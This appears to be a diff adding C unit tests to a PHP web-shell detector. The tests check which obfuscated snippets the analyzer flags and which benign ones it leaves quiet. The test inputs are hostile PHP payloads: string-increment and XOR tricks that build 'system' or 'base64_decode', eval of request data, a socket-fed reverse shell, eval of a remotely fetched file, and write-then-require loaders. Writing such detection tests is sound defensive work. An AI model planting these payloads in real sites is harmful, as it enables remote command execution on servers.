@@ -261,6 +261,44 @@ static void test_bounds(void) {
   lang_ctx_free(c8);
 }
 
+/* PHP folding and flow: what each new step must read, and what must stay quiet. */
+static void test_php_fold_and_flow(void) {
+  const lang_detection *d;
+  /* 'Zz'++ is 'AAa' (PHP's string increment), proved by the name it unlocks */
+  d = analyze("PHP", "<?php $t = 'Zz'; $t++; $f = str_replace('AAa', 'system', 'AAa'); $f($_GET['c']);");
+  CHECK(d && strstr(d->description, "reaches system()"));
+  /* an array's text is "Array"; its first letter, stepped, spells a name */
+  d = analyze("PHP", "<?php $_ = []; $_ = \"$_\"; $a = $_[0]; $a++; $f = $a . 'ase64_decode'; "
+                     "eval($f($_POST['x']));");
+  CHECK(d && strstr(d->description, "reaches eval() after base64_decode"));
+  /* constant comparisons: true is 1 */
+  d = analyze("PHP", "<?php $a = array('eval', 'system'); $f = $a[('b' > 'a')]; $f($_GET['c']);");
+  CHECK(d && strstr(d->description, "system()"));
+  d = analyze("PHP", "<?php $a = array('system', 'eval'); $f = $a['!' == '@']; $f($_GET['c']);");
+  CHECK(d && strstr(d->description, "system()"));
+  /* a double-quoted string of constant variables is a constant */
+  d = analyze("PHP", "<?php $v = '$_GET'; eval(\"system({$v}['c']);\");");
+  CHECK(d && strstr(d->description, "reaches system()"));
+  /* ${'_' . $x}: a superglobal chosen at run time */
+  d = analyze("PHP", "<?php ${'_' . $k}['f'](${'_' . $k}['a']);");
+  CHECK(d && strstr(d->description, "is called as a function"));
+  /* flow: a variable holds input only from where it is assigned on */
+  CHECK(!analyze("PHP", "<?php $x = $_GET['a']; $x = 'uptime'; system($x);"));
+  CHECK(!analyze("PHP", "<?php function f() { $c = 'id'; system($c); $c = $_GET['x']; echo $c; }"));
+  /* what a socket received, run: a remote shell */
+  d = analyze("PHP", "<?php $s = fsockopen('192.0.2.1', 80); $c = fgets($s); system($c);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.reverse-shell") == 0 && strstr(d->description, "fgets()"));
+  CHECK(!analyze("PHP", "<?php $h = fopen('list.txt', 'r'); $c = fgets($h); echo $c;"));
+  /* a callable with the application's own prefix is not chosen by the request; one a sink starts is */
+  CHECK(!analyze("PHP", "<?php call_user_func('show_' . $_GET['p']);"));
+  d = analyze("PHP", "<?php call_user_func('sys' . $_GET['p'], $_GET['c']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.callback") == 0);
+  /* written, then loaded */
+  d = analyze("PHP", "<?php file_put_contents('t.txt', $_POST['c']); require 't.txt';");
+  CHECK(d && strstr(d->description, "run as code by require"));
+  CHECK(!analyze("PHP", "<?php file_put_contents('t.txt', $_POST['c']); require 'other.php';"));
+}
+
 static void test_prefilter_and_stats(void) {
   const char *lib = "<?php class A { function b($x) { return eval_me($x); } }";
   CHECK(!lang_prefilter((const unsigned char *)lib, strlen(lib), 1));
@@ -278,7 +316,8 @@ static void test_prefilter_and_stats(void) {
       "<?php $r = $_SERVER; echo $r['HTTP_X'];", "<?php echo $_SERVER['QUERY_STRING'];",
       "<?php $u = $a('', $q); $u();", "<?php $f = create_function('', $b);",
       "<?php fputs(fopen('a.php', 'w'), base64_decode('PD9waHAg'));",
-      "<?php eval(file_get_contents('http://example.invalid/x'));"};
+      "<?php eval(file_get_contents('http://example.invalid/x'));", "<?php $/*x*/{'_GET'}['a'];",
+      "<?php ${('!' ^ '~')}();", "<?php file_put_contents('x', \"\\x7fELF\\x02\");"};
   for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
     CHECK(lang_prefilter((const unsigned char *)hidden[i], strlen(hidden[i]), 1));
   /* what library code has plenty of and no shell needs alone */
@@ -327,6 +366,7 @@ int main(void) {
   RUN(test_asp_family);
   RUN(test_source_to_sink);
   RUN(test_quiet_cases);
+  RUN(test_php_fold_and_flow);
   RUN(test_bounds);
   RUN(test_prefilter_and_stats);
   RUN(test_combined_score);
